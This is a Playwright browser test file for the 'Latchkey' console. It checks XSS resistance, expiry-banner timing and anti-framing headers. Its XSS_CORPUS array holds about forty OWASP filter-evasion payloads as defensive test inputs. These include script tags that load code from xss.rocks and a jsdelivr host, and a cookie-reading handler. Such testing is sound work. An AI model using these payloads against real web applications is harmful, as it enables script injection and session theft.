/**
 * docs/security.md, items 40, 42 and 37, in real headless Chromium against the real server binary,
 * beyond what console.test.ts already checks (six XSS payloads; a banner at 3 d and none at
 * 8 d; the console refusing to be framed):
 *
 *   40  an OWASP XSS-filter-evasion corpus as token names and notes: no `dialog` event, nothing
 *       but text in the name cells, each name and note as text equal to what the API stores;
 *   42  the banner and the state badge at exactly 7 d − 1 min (expiring, banner) and
 *       7 d + 1 min (active, no banner);
 *   37  the sign-in page (server-rendered, not the console) framed from another origin stays
 *       blank and Chromium reports the frame-ancestors violation.
 */
import { DAY_MS, SESSION_COOKIE } from '@latchkey/contract';
import type { Browser, Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { describeInBrowser } from './support/chromium.js';
import {
  consoleServerAndBrowser,
  expiryBannerText,
  framedByAnotherOrigin,
  recordDialogs,
  signInInBrowser,
  tokenNameCells,
  tokenRow as rowOf,
} from './support/console-session.js';
import type { RunningServer } from './support/server.js';

const MINUTE_MS = 60_000;

/**
 * From the OWASP XSS Filter Evasion Cheat Sheet (entries that fit the 64-character name limit
 * and contain no control characters, which names refuse), plus a few framework-template ones.
 */
const XSS_CORPUS = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>'.slice(0, 64),
  "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>".slice(0, 64),
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<svg/onload=alert(\'XSS\')>',
  '<svg><script>alert(1)</script></svg>',
  '<details open ontoggle=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "';alert(String.fromCharCode(88,83,83))//",
  '\\";alert(\'XSS\');//',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1)">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<x onclick=alert(1)>click me',
  '<math><mtext><img src=x onerror=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<form action=javascript:alert(1)><button>go',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '${alert(1)}',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
];

let server: RunningServer;
let browser: Browser;

const signedIn = () => signInInBrowser(browser, server);

async function openTokens(page: Page) {
  await page.goto('/settings/tokens');
  await page.getByRole('heading', { name: 'Personal Access Tokens' }).waitFor();
}

// docs/security.md, items 37, 40 and 42
describeInBrowser('console security properties in Chromium', () => {
  consoleServerAndBrowser((started) => ({ server, browser } = started));

  // docs/security.md, item 40
  it(`${XSS_CORPUS.length} OWASP filter-evasion payloads as token names and notes render as text; no dialog fires`, async () => {
    expect(new Set(XSS_CORPUS).size).toBe(XSS_CORPUS.length);
    const { context, page, api, sessionId } = await signedIn();
    const dialogs = recordDialogs(page);
    try {
      for (const [index, name] of XSS_CORPUS.entries()) {
        // A few expire soon, so the payloads are rendered in the banner as well.
        // Each token's note is another payload, so every payload is also rendered as a note.
        const note = XSS_CORPUS[(index + 1) % XSS_CORPUS.length];
        await api.createToken(name, { note, ...(index % 10 === 0 && { expiresAt: new Date(Date.now() + 2 * DAY_MS).toISOString() }) });
      }
      const stored = (await (await fetch(`${server.origin}/api/v1/tokens`, { headers: { cookie: `${SESSION_COOKIE}=${sessionId}` } })).json()) as {
        tokens: Array<{ name: string; note: string | null }>;
      };
      expect(stored.tokens.map((t) => t.name).sort()).toEqual([...XSS_CORPUS].sort());
      expect(stored.tokens.map((t) => t.note).sort()).toEqual([...XSS_CORPUS].sort());

      await openTokens(page);
      await page.locator('th.token-name').nth(XSS_CORPUS.length - 1).waitFor();
      // Give anything injected (onload, onerror, ontoggle, refresh) its chance to run.
      await page.mouse.move(200, 300);
      for (const cell of await page.locator('th.token-name').all()) await cell.hover();
      await page.waitForTimeout(500);

      const cells = await tokenNameCells(page);
      expect(cells).toHaveLength(XSS_CORPUS.length);
      expect(cells.map((cell) => cell.text).sort()).toEqual(stored.tokens.map((t) => t.name).sort());
      expect(cells.map((cell) => [cell.text, cell.note]).sort()).toEqual(stored.tokens.map((t) => [t.name, t.note]).sort());
      expect(cells.filter((cell) => !cell.onlyText)).toEqual([]);
      const bannerNames = await page.getByRole('region', { name: 'Expiring tokens' }).locator('strong').allTextContents();
      expect(bannerNames.sort()).toEqual(XSS_CORPUS.filter((_, index) => index % 10 === 0).sort());
      // Nothing the payloads name exists anywhere in the page.
      expect(await page.locator('main img, main svg, main iframe, main object, main embed, main script, main details, main math, main x, base, meta[http-equiv]').count()).toBe(0);
      expect(page.url()).toBe(`${server.origin}/settings/tokens`);
      expect(dialogs).toEqual([]);
    } finally {
      await context.close();
    }
  });

  // docs/security.md, item 42
  it('banner and "Expiring soon" at 7 d − 1 min; "Active" and no banner at 7 d + 1 min', async () => {
    const { context, page, api } = await signedIn();
    try {
      await api.createToken('seven days plus a minute', { expiresAt: new Date(Date.now() + 7 * DAY_MS + MINUTE_MS).toISOString() });
      for (const path of ['/settings/tokens', '/']) {
        await page.goto(path);
        await page.locator('main h1').waitFor();
        if (path === '/settings/tokens') {
          await rowOf(page, 'seven days plus a minute').waitFor();
          expect(await rowOf(page, 'seven days plus a minute').locator('.badge').textContent()).toBe('Active');
        }
        await page.waitForTimeout(300);
        expect(await page.getByRole('region', { name: 'Expiring tokens' }).count(), path).toBe(0);
      }

      await api.createToken('seven days minus a minute', { expiresAt: new Date(Date.now() + 7 * DAY_MS - MINUTE_MS).toISOString() });
      for (const path of ['/settings/tokens', '/', '/namespaces']) {
        const text = await expiryBannerText(page, path);
        expect(text).toContain('seven days minus a minute');
        expect(text).not.toContain('seven days plus a minute');
      }
      await openTokens(page);
      await rowOf(page, 'seven days minus a minute').waitFor();
      expect(await rowOf(page, 'seven days minus a minute').locator('.badge').textContent()).toBe('Expiring soon');
      expect(await rowOf(page, 'seven days plus a minute').locator('.badge').textContent()).toBe('Active');
    } finally {
      await context.close();
    }
  });

  // docs/security.md, item 37
  it('the sign-in page framed by another origin stays blank, with a frame-ancestors violation', async () => {
    await framedByAnotherOrigin(browser, server.origin, `${server.origin}/auth/sign-in`, async ({ page, text: framedText }) => {
      expect(framedText).not.toContain('Sign in');
      // The control: the same page loads normally at the top level.
      await page.goto(`${server.origin}/auth/sign-in`);
      expect(await page.locator('h1').textContent()).toBe('Sign in to Latchkey');
    });
  });
});
